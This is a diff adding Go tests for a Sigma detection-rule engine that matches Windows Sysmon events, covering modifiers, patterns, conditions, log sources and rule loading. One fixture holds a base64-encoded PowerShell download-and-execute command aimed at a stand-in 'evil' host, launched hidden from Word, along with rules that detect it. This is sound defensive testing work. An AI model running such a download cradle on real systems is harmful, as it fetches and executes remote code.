@@ -0,0 +1,299 @@
+package sigma
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"rawsec-evtx/evtx"
+)
+
+func sysmonEvent(t *testing.T, eventID string, data map[string]interface{}) *evtx.GoEvtxMap {
+	t.Helper()
+	e := evtx.GoEvtxMap{"Event": map[string]interface{}{
+		"EventData": data,
+		"System": map[string]interface{}{
+			"Channel":     "Microsoft-Windows-Sysmon/Operational",
+			"Computer":    "ws01.example.org",
+			"EventID":     eventID,
+			"Provider":    map[string]interface{}{"Name": "Microsoft-Windows-Sysmon"},
+			"TimeCreated": map[string]interface{}{"SystemTime": "2024-02-29T12:34:57Z"},
+		},
+	}}
+	// through JSON like the events of the other tests
+	b, err := json.Marshal(e)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out evtx.GoEvtxMap
+	if err := json.Unmarshal(b, &out); err != nil {
+		t.Fatal(err)
+	}
+	return &out
+}
+
+func parseRule(t *testing.T, rule string) *Rule {
+	t.Helper()
+	rules, err := ParseRules([]byte(rule), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rules) != 1 {
+		t.Fatalf("expected one rule, got %d", len(rules))
+	}
+	return rules[0]
+}
+
+func TestModifiers(t *testing.T) {
+	encoded := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://evil')"))
+	e := sysmonEvent(t, "1", map[string]interface{}{
+		"Image":             `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+		"CommandLine":       "powershell.exe -nop /w hidden -enc " + encoded,
+		"ParentImage":       `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
+		"User":              `CORP\alice`,
+		"IntegrityLevel":    "High",
+		"LogonId":           "0x3e7",
+		"TerminalSessionId": "2",
+		"DestinationIp":     "10.1.2.3",
+		"Hashes":            []string{"SHA1=0123", "MD5=4567"},
+		"Empty":             "",
+	})
+
+	for _, tc := range []struct {
+		detection string
+		match     bool
+	}{
+		{`Image|endswith: '\powershell.exe'`, true},
+		{`Image|endswith: '\pwsh.exe'`, false},
+		{`Image|startswith: 'c:\windows\'`, true},
+		{`Image: 'C:\Windows\System32\WindowsPowerShell\v1.0\POWERSHELL.EXE'`, true},
+		{`Image: 'C:\Windows\\*\powershell.exe'`, true},
+		{`Image: 'C:\Windows\*\powershell.exe'`, false},
+		{`Image: '*\v?.0\\*'`, true},
+		{`Image: '*\v?0\*'`, false},
+		{`Image: 'powershell.exe'`, false},
+		{`Image|contains: 'WindowsPowerShell'`, true},
+		{`Image|contains: ['cmd.exe', 'PowerShell']`, true},
+		{`CommandLine|contains|all: ['-nop', 'hidden', '-enc']`, true},
+		{`CommandLine|contains|all: ['-nop', '-noexit']`, false},
+		{`CommandLine|contains|windash: ' -w hidden'`, true},
+		{`CommandLine|contains: ' -w hidden'`, false},
+		{`CommandLine|windash: '*-NOP*'`, true},
+		{`CommandLine|re: '/w\s+hid'`, true},
+		{`CommandLine|re: 'POWERSHELL'`, false},
+		{`CommandLine|re|i: 'POWERSHELL'`, true},
+		{`CommandLine|base64offset|contains: 'http://'`, true},
+		{`CommandLine|base64offset|contains: 'https://'`, false},
+		{`CommandLine|base64|contains: 'IEX (New-'`, true},
+		{`CommandLine|base64|contains: 'IEX (New'`, false},
+		{`CommandLine|wide|base64offset|contains: 'IEX'`, false},
+		{`DestinationIp|cidr: '10.0.0.0/8'`, true},
+		{`DestinationIp|cidr: ['192.168.0.0/16', '172.16.0.0/12']`, false},
+		{`User|cidr: '10.0.0.0/8'`, false},
+		{`TerminalSessionId|gt: 1`, true},
+		{`TerminalSessionId|lte: 1`, false},
+		{`EventID: 1`, true},
+		{`EventID: [3, 1]`, true},
+		{`Provider_Name: Microsoft-Windows-Sysmon`, true},
+		{`Hashes|contains: 'MD5='`, true},
+		{`Hashes: 'SHA256=*'`, false},
+		{`Missing: null`, true},
+		{`Empty: null`, true},
+		{`Image: null`, false},
+		{`Missing|exists: false`, true},
+		{`Image|exists: true`, true},
+		{`Missing: '*'`, false},
+		{"Image|endswith: '.exe'\n    IntegrityLevel: [High, System]", true},
+		{"Image|endswith: '.exe'\n    IntegrityLevel: Medium", false},
+		{`User: 'corp\alice'`, true},
+		{`LogonId: '0x3E7'`, true},
+	} {
+		rule := parseRule(t, "title: test\nlogsource:\n  category: process_creation\n  product: windows\n"+
+			"detection:\n  selection:\n    "+tc.detection+"\n  condition: selection\n")
+		if rule.Match(e) != tc.match {
+			t.Errorf("%s: expected %t", tc.detection, tc.match)
+		}
+	}
+}
+
+func TestPattern(t *testing.T) {
+	for _, tc := range []struct {
+		pattern, value string
+		match          bool
+	}{
+		{`a\*b`, `a*b`, true},
+		{`a\*b`, `axb`, false},
+		{`a\?`, `a?`, true},
+		{`a\?`, `ab`, false},
+		{`a\\*`, `a\bc`, true},
+		{`C:\Windows\*`, `c:\windows\x`, false},
+		{`C:\Windows\\*`, `c:\windows\x`, true},
+		{`*`, ``, true},
+		{``, ``, true},
+		{``, `x`, false},
+		{`a*b*c`, `AxxBxxC`, true},
+		{`a*b*c`, `AxxBxx`, false},
+		{`a**`, `abc`, true},
+		{"a*", "A\nb", true},
+	} {
+		if parsePattern(tc.pattern).compile()(tc.value) != tc.match {
+			t.Errorf("%q on %q: expected %t", tc.pattern, tc.value, tc.match)
+		}
+	}
+}
+
+func TestConditions(t *testing.T) {
+	e := sysmonEvent(t, "1", map[string]interface{}{
+		"Image":       `C:\Windows\System32\cmd.exe`,
+		"CommandLine": `cmd.exe /c whoami`,
+		"ParentImage": `C:\Windows\explorer.exe`,
+	})
+	const searches = `
+  selection_img:
+    Image|endswith: '\cmd.exe'
+  selection_cli:
+    CommandLine|contains: whoami
+  selection_other:
+    CommandLine|contains: ipconfig
+  filter_parent:
+    ParentImage|endswith: '\services.exe'
+  _hidden:
+    Image: nothing
+  keywords:
+    - WHOAMI
+    - 'net user'
+`
+	for _, tc := range []struct {
+		condition string
+		match     bool
+	}{
+		{"selection_img and selection_cli", true},
+		{"selection_img and selection_other", false},
+		{"selection_img and not filter_parent", true},
+		{"selection_img and not (filter_parent or selection_cli)", false},
+		{"1 of selection_*", true},
+		{"all of selection_*", false},
+		{"all of selection_* or keywords", true},
+		{"1 of selection_* and not 1 of filter*", true},
+		{"all of them", false},
+		{"1 of them", true},
+		{"all of selection_i* and all of selection_c*", true},
+		{"not _hidden and keywords", true},
+		{"selection_other or (selection_img and (selection_cli))", true},
+		{"[selection_other, selection_cli]", true},
+		{"[selection_other, filter_parent]", false},
+	} {
+		condition := tc.condition
+		if !strings.HasPrefix(condition, "[") {
+			condition = "'" + condition + "'"
+		}
+		rule := parseRule(t, "title: test\ndetection:"+searches+"  condition: "+condition+"\n")
+		if rule.Match(e) != tc.match {
+			t.Errorf("%s: expected %t", tc.condition, tc.match)
+		}
+	}
+
+	for _, condition := range []string{
+		"selection_img and",
+		"selection_img or or selection_cli",
+		"(selection_img",
+		"selection_img)",
+		"unknown",
+		"1 of nothing*",
+		"all of",
+		"selection_img | count() > 5",
+		"",
+	} {
+		_, err := ParseRules([]byte("title: test\ndetection:"+searches+"  condition: '"+condition+"'\n"), nil)
+		var re *RuleError
+		if !errors.As(err, &re) {
+			t.Errorf("%q: expected a rule error, got %v", condition, err)
+		}
+	}
+}
+
+func TestLogSource(t *testing.T) {
+	sysmon := sysmonEvent(t, "1", map[string]interface{}{"Image": `C:\x.exe`})
+	network := sysmonEvent(t, "3", map[string]interface{}{"Image": `C:\x.exe`})
+	security := sysmonEvent(t, "4688", map[string]interface{}{"Image": `C:\x.exe`})
+	(*security)["Event"].(map[string]interface{})["System"].(map[string]interface{})["Channel"] = "Security"
+
+	for _, tc := range []struct {
+		logsource string
+		matches   []bool
+	}{
+		{"category: process_creation", []bool{true, false, false}},
+		{"category: network_connection", []bool{false, true, false}},
+		{"service: sysmon", []bool{true, true, false}},
+		{"service: security", []bool{false, false, true}},
+		{"product: windows", []bool{true, true, true}},
+		{"category: unknown", []bool{true, true, true}},
+	} {
+		rule := parseRule(t, "title: test\nlogsource:\n  "+tc.logsource+"\ndetection:\n  sel:\n    Image: 'C:\\x.exe'\n  condition: sel\n")
+		for i, e := range []*evtx.GoEvtxMap{sysmon, network, security} {
+			if rule.Match(e) != tc.matches[i] {
+				t.Errorf("%s on event %d: expected %t", tc.logsource, i, tc.matches[i])
+			}
+		}
+	}
+
+	_, err := ParseRules([]byte("title: test\nlogsource:\n  product: linux\ndetection:\n  sel:\n    a: b\n  condition: sel\n"), nil)
+	if !errors.Is(err, ErrUnsupported) {
+		t.Errorf("expected linux rules to be unsupported, got %v", err)
+	}
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"good.yml": "title: good\nid: 1\nlevel: high\ndetection:\n  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n",
+		// a collection with its global document
+		"sub/collection.yaml": "action: global\ndetection:\n  img:\n    Image|endswith: '.exe'\n  condition: img and sel\n" +
+			"---\ntitle: first\ndetection:\n  sel:\n    EventID: 1\n" +
+			"---\ntitle: second\ndetection:\n  sel:\n    EventID: 2\n",
+		"bad.yml":    "title: bad\ndetection:\n  sel:\n    Image|unknown: x\n  condition: sel\n",
+		"broken.yml": "title: [\n",
+		"notes.txt":  "not a rule",
+		"mapped.yml": "title: mapped\ndetection:\n  sel:\n    ProcessName: 'C:\\Windows\\System32\\cmd.exe'\n  condition: sel\n",
+	}
+	for name, data := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	config := DefaultConfig.Merge(&Config{FieldMapping: map[string]string{"ProcessName": "EventData/Image"}})
+	rs := NewRuleset(config)
+	err := rs.Load(dir)
+	var re *RuleError
+	if !errors.As(err, &re) || !strings.Contains(err.Error(), "bad.yml") || !strings.Contains(err.Error(), "broken.yml") {
+		t.Errorf("expected errors for bad.yml and broken.yml, got %v", err)
+	}
+	var titles []string
+	for _, r := range rs.Rules() {
+		titles = append(titles, r.Title)
+	}
+	if strings.Join(titles, ",") != "good,mapped,first,second" {
+		t.Errorf("unexpected rules loaded: %v", titles)
+	}
+
+	e := sysmonEvent(t, "1", map[string]interface{}{"Image": `C:\Windows\System32\cmd.exe`})
+	titles = nil
+	for _, r := range rs.Match(e) {
+		titles = append(titles, r.Title)
+	}
+	if strings.Join(titles, ",") != "good,mapped,first" {
+		t.Errorf("unexpected matches: %v", titles)
+	}
+
+	if err := rs.Load(filepath.Join(dir, "missing")); err == nil {
+		t.Error("expected an error loading a missing path")
+	}
+}